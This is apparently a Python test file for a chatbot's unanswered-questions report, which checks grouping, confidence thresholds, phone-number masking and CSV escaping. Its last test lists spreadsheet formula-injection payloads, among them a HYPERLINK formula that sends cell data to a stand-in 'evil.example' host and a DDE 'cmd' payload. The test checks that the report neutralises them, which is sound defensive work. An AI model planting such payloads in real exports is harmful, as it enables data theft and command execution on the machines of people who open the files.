"""The unanswered-questions report, read from the tracker store's events."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

from bot.audit.unanswered import build_report, csv_cell, to_csv, to_markdown

from .tracker_events import bot_event, events, metadata, user_event

T0 = datetime(2024, 10, 9, 2, 0, tzinfo=timezone.utc).timestamp()


def seed(engine) -> None:
    metadata.create_all(engine)
    fallback_ranking = [
        {"name": "nlu_fallback", "confidence": 0.45},
        {"name": "ask_tekun", "confidence": 0.3},
    ]
    rows = [
        user_event("tg-1-1", "五保户还有吗？", "nlu_fallback", 0.45, T0, fallback_ranking),
        user_event("tg-2-2", "五保户还有吗", "nlu_fallback", 0.45, T0 + 60, fallback_ranking),
        user_event("tg-3-3", "五保户 还有吗!", "nlu_fallback", 0.45, T0 + 120, fallback_ranking),
        user_event("tg-1-1", "低保多少钱", "ask_dibao_standard", 0.97, T0 + 180),  # answered
        user_event("tg-4-4", "残疾证怎么办", "ask_materials", 0.41, T0 + 240),  # low confidence
        user_event("tg-4-4", "我电话13812345678你打给我", "nlu_fallback", 0.2, T0 + 300),
        user_event("tg-5-5", "/request_human", "request_human", 1.0, T0 + 360),  # a button: not a question
        bot_event("tg-1-1", "抱歉没听懂", T0 + 10),
    ]
    with engine.begin() as conn:
        conn.execute(events.insert(), rows)


def test_groups_counts_and_masking(db):
    seed(db)
    report = build_report(db, threshold=0.6)
    assert report.total_messages == 6 and report.unanswered == 5
    top = report.groups[0]
    assert top.count == 3 and len(top.senders) == 3
    assert top.intents.most_common(1)[0][0] == "nlu_fallback→ask_tekun"
    assert {g.example for g in report.groups[1:]} == {"残疾证怎么办", "我电话138****5678你打给我"}

    rows = list(csv.DictReader(io.StringIO(to_csv(report))))
    assert rows[0]["count"] == "3" and rows[0]["people"] == "3"
    assert all("13812345678" not in r["message"] for r in rows)

    md = to_markdown(report)
    assert "共 6 条用户消息，其中 5 条" in md and "归为 3 组" in md
    assert "| nlu_fallback→ask_tekun | 3 |" in md
    assert "13812345678" not in md


def test_threshold_and_since(db):
    seed(db)
    assert build_report(db, threshold=0.3).unanswered == 4  # 0.41 is no longer "low"
    since = datetime.fromtimestamp(T0 + 200, tz=timezone.utc)
    assert build_report(db, since=since).unanswered == 2


def test_no_events_table(db):
    report = build_report(db)
    assert report.unanswered == 0 and "没有未能回答的问题" in to_markdown(report)


def test_csv_cells_that_a_spreadsheet_would_run_are_text(db):
    """Issue 14 item 11: a resident's message is a CSV cell; "=HYPERLINK(...)" must not become a formula."""
    metadata.create_all(db)
    attacks = [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",  # the report strips it to "=1+1"
    ]
    rows = [user_event(f"tg-{i}-{i}", text, "nlu_fallback", 0.2, T0 + i) for i, text in enumerate(attacks)]
    rows.append(user_event("tg-9-9", "五保户还有吗", "nlu_fallback", 0.2, T0 + 60))
    with db.begin() as conn:
        conn.execute(events.insert(), rows)
    cells = [r["message"] for r in csv.DictReader(io.StringIO(to_csv(build_report(db))))]
    attack_cells = [c for c in cells if c != "五保户还有吗"]
    assert len(attack_cells) == len(attacks)
    assert all(c.startswith("'") for c in attack_cells)
    assert "五保户还有吗" in cells  # ordinary text unchanged
    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell(3) == 3 and csv_cell("0.45") == "0.45" and csv_cell("2024-10-09 02:00") == "2024-10-09 02:00"
